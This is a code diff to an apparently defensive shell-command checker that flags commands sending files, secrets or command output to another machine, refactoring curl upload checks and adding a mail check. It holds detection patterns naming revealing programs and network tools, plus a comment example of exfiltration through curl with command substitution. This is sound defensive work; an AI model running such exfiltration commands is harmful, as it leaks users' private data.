@@ -1,13 +1,18 @@
 /** Finds commands that send files, or what other commands print, to another machine. */
 import { nameOf, type Word } from '../../shell/index.ts';
+import { named } from '../named.ts';
 import { type Finding, lookUp, type Rule, type Table } from '../rule.ts';
 import { secretAt } from '../sensitive-paths.ts';
 import type { Use } from '../use.ts';
 
 const local = /(?:^|[/@])(?:localhost|127\.\d+\.\d+\.\d+|\[?::1\]?|0\.0\.0\.0)(?:[:/]|$)/;
 /** What such programs print is about the machine and its owner. */
-const revealing =
-  /^(?:tar|zip|cat|env|printenv|set|find|mysqldump|pg_dump|pg_dumpall|mongodump|history|fc|gpg|base64|xxd|hexdump|od|ps|dmesg|gzip|bzip2|xz|7z|cpio|dd|tail|head|id|whoami|uname|hostname|ifconfig|ip|netstat|crontab|export|declare|compgen|pbpaste|xclip|xsel|screencapture|import|scrot|arecord|ffmpeg|script|tcpdump|sqlite3|redis-cli|git|security|dpkg|last|w|who|strings|openssl|zcat|rsync|ls)$/;
+const revealing = named(
+  'tar zip cat env printenv set find mysqldump pg_dump pg_dumpall mongodump history fc gpg base64 xxd',
+  'hexdump od ps dmesg gzip bzip2 xz 7z cpio dd tail head id whoami uname hostname ifconfig ip netstat',
+  'crontab export declare compgen pbpaste xclip xsel screencapture import scrot arecord ffmpeg script',
+  'tcpdump sqlite3 redis-cli git security dpkg last w who strings openssl zcat rsync ls',
+);
 
 const table: Table = [
   [
@@ -82,17 +87,25 @@ function checkUpload(use: Use): readonly (Finding | undefined)[] {
   if (use.args.some((each) => local.test(each))) return [];
   const files = curlFiles(use);
   const named = files.filter(
-    (each) => (each.shown !== '-' && !/\.(?:json|xml|graphql)$/.test(each.shown)) || isPrivate(use, each),
+    (each) => each.shown !== '-' && (!/\.(?:json|xml|graphql)$/.test(each.shown) || isPrivate(use, each)),
   );
   const input = files.some((each) => each.shown === '-') || (use.args.includes('.') && use.has('T'));
-  const inner = use.all.filter(
+  return [
+    ...named.map((word) => sent(use, word)),
+    input ? ofInput(use) : undefined,
+    sendsOutput(use) || sendsKey(use)
+      ? { level: 'high', message: 'sends what other commands print to another machine' }
+      : undefined,
+  ];
+}
+
+/** `curl "https://host/?d=$(cat file)"` */
+const sendsOutput = (use: Use): boolean =>
+  use.all.some(
     (each) =>
       each.inside.some((reach) => reach.kind === 'substitution') &&
       each.place.start >= use.command.place.start &&
-      each.place.end <= use.command.place.end,
-  );
-  const substituted = inner.some(
-    (each) =>
+      each.place.end <= use.command.place.end &&
       revealing.test(nameOf(each.program)) &&
       !/^(?:git|head|ls|date)$/.test(nameOf(each.program)) &&
       !isHarmless(
@@ -100,18 +113,15 @@ function checkUpload(use: Use): readonly (Finding | undefined)[] {
         nameOf(each.program),
       ),
   );
-  const keys = use.command.args.some(
+
+/** A secret of the environment in an address or a form; in a header it is how one logs in. */
+const sendsKey = (use: Use): boolean =>
+  use.command.args.some(
     (each) =>
       /^https?:|[?&=]/.test(each.shown) &&
       !/^(?:authorization|x-api-key|private-token)/i.test(each.shown) &&
       each.variables.some((name) => /TOKEN|SECRET|PASSWORD|KEY/i.test(name)),
   );
-  return [
-    ...named.filter((each) => each.shown !== '-').map((word) => sent(use, word)),
-    input ? ofInput(use) : undefined,
-    substituted || keys ? { level: 'high', message: 'sends what other commands print to another machine' } : undefined,
-  ];
-}
 
 const isRemote = (text: string): boolean =>
   /^(?:[\w.-]+@)?[\w.-]{2,}:(?!\\)|^(?:scp|sftp|rsync):\/\//.test(text) && !/^\//.test(text);
@@ -130,6 +140,12 @@ function checkCopy(use: Use): readonly (Finding | undefined)[] {
 function checkNet(use: Use): readonly (Finding | undefined)[] {
   if (use.has('z') || use.has('l') || use.args.some((each) => local.test(each))) return [];
   return [ofInput(use)];
+}
+
+/** Mailing a text is what mail is for; mailing what is private is not. */
+function checkMail(use: Use): readonly (Finding | undefined)[] {
+  const from = use.command.redirections.find((each) => each.operator === '<')?.target;
+  return [from === undefined ? ofInput(use) : isPrivate(use, from) ? sent(use, from) : undefined];
 }
 
 /** Names that hold what other commands print, looked up at somebody's name server. */
@@ -159,9 +175,9 @@ const checks: Readonly<Record<string, (use: Use) => readonly (Finding | undefine
     socat: checkNet,
     telnet: checkNet,
     ftp: checkNet,
-    mail: checkNet,
-    mailx: checkNet,
-    sendmail: checkNet,
+    mail: checkMail,
+    mailx: checkMail,
+    sendmail: checkMail,
   },
   ...{
     dig: (use) => [checkNames(use)],
